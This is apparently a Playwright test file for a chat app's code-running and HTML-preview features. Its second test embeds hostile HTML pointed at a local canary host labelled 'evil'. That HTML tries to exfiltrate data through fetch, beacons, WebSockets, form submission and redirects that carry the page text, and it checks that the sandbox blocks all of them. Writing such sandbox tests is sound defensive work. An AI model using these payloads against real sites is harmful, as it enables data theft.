import { createServer, type AddressInfo } from 'node:net';
import { ask, log, NEW_CHAT } from './chat-page.ts';
import { expect, test } from './fixtures.ts';

const fenced = (language: string, code: string) => `Here it is:\n\n\`\`\`${language}\n${code}\n\`\`\`\n`;

test.beforeEach(({ openai }) => openai.behavesWell());

test('programs in an answer run, read the attached table and draw [chat.run-code]', async ({
  page,
  openai,
  ann,
  signedIn,
}) => {
  const javascript = `console.log(files['sales.csv'].trim().split('\\n').length); show('<svg xmlns="http://www.w3.org/2000/svg" width="60" height="30"><rect width="60" height="30" fill="green"/></svg>')`;
  const python = `import csv\nprint(sum(int(row['sold']) for row in csv.DictReader(open('sales.csv'))))`;
  openai.answersWith(fenced('js', javascript) + fenced('python', python));
  await signedIn(page, ann, NEW_CHAT);
  await page.locator('input[type=file]').setInputFiles({
    name: 'sales.csv',
    mimeType: 'text/csv',
    buffer: Buffer.from('town,sold\nA,3\nB,4\n'),
  });
  await ask(page, 'Add it up');
  const runs = log(page).getByRole('button', { name: 'Run', exact: true });
  await expect(runs).toHaveCount(2);

  await runs.first().click();
  const results = log(page).getByRole('group', { name: 'Result of the program' });
  await expect(results.first()).toContainText('3');
  await expect(results.first().getByRole('img', { name: 'Picture 1' })).toBeVisible();
  await expect(results.first()).toContainText('It could open: sales.csv');

  await runs.click();
  await expect(results.last()).toContainText(/^(?!.*could not).*7/s, { timeout: 40_000 });
});

test('a page opens beside the chat in its versions, runs its scripts, and reaches nobody [chat.markdown]', async ({
  page,
  openai,
  studiolo,
  ann,
  signedIn,
}) => {
  let calls = 0;
  const canary = createServer((socket) => {
    calls += 1;
    socket.destroy();
  });
  await new Promise<void>((resolve) => canary.listen(0, '127.0.0.1', resolve));
  const evil = `http://127.0.0.1:${(canary.address() as AddressInfo).port}`;
  const first = '<h1>The first lamp</h1>';
  const second = `<h1 id="t">?</h1><img src="${evil}/i.png"><link rel="stylesheet" href="${evil}/s.css"><iframe src="${evil}/f"></iframe>
<link rel="dns-prefetch" href="${evil}"><script src="${evil}/x.js"></script><script>
const tries = [() => fetch('${evil}/fetch'), () => fetch('${studiolo.url}/api/cli/config/v1/get'), () => new WebSocket('ws${evil.slice(4)}'),
  () => navigator.sendBeacon('${evil}/beacon'), () => open('${evil}/open'), () => (top.location = '${evil}/top'),
  () => parent.document.title, () => localStorage.length, () => new EventSource('${evil}/events')];
let refused = 0;
for (const each of tries) try { Promise.resolve(each()).catch(() => 0) } catch { refused += 1 }
t.textContent = 'The second lamp, ' + origin + ', ' + (refused > 2);
</script>`;
  const third = `<h1>Away</h1><form action="${evil}/form" id="f"></form><meta http-equiv="refresh" content="0;url=${evil}/refresh">
<script>try { f.submit() } catch {} location = '${evil}/self?' + document.body.innerText;</script>`;
  await signedIn(page, ann, NEW_CHAT);
  openai.answersWith(fenced('html', first));
  await ask(page, 'A page about lamps');
  await expect(log(page).getByRole('button', { name: 'Preview' })).toHaveCount(1);
  openai.answersWith(fenced('html', second));
  await ask(page, 'Make it better');
  await expect(log(page).getByRole('button', { name: 'Preview' })).toHaveCount(2);
  openai.answersWith(fenced('html', third));
  await ask(page, 'Make it go away');
  await expect(log(page).getByRole('button', { name: 'Preview' })).toHaveCount(3);

  await log(page).getByRole('button', { name: 'Preview' }).nth(1).click();
  const panel = page.getByRole('complementary', { name: 'Page' });
  const frame = panel.frameLocator('iframe');
  await expect(panel.getByText('2 / 3')).toBeVisible();
  await expect(frame.getByRole('heading')).toHaveText('The second lamp, null, true');
  await panel.getByRole('button', { name: 'Later version' }).click();
  await expect(panel.getByText('3 / 3')).toBeVisible();
  await expect(frame.getByRole('heading')).toHaveCount(0);
  for (const _ of [3, 2]) await panel.getByRole('button', { name: 'Earlier version' }).click();
  await expect(frame.getByRole('heading')).toHaveText('The first lamp');
  await panel.getByRole('button', { name: 'Code' }).click();
  await expect(panel.getByText(first)).toBeVisible();
  const download = page.waitForEvent('download');
  await panel.getByRole('button', { name: 'Download' }).click();
  expect((await download).suggestedFilename()).toBe('page.html');
  await page.keyboard.press('Escape');
  await expect(panel).toBeHidden();
  expect(calls).toBe(0);
  expect(page.url()).toContain(studiolo.url);
  canary.close();
});
